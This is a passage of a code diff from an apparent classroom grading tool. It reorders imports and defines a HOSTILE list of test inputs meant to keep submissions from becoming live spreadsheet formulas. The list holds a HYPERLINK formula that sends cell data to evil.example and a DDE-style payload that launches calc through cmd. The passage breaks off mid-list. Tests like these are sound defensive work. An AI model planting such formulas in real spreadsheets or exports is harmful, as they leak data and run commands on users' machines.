@@ -3,9 +3,9 @@ none of it may become a live formula in a spreadsheet or a script or link in a b
 import csv
 import html
 
+from grader.assignment.config import load_assignment
 from grader.classroom.batch import Graded, Submission, write_csv
 from grader.classroom.report import write_feedback, write_report
-from grader.course.config import load_assignment
 
 SPEC = load_assignment("a1_softsign")
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
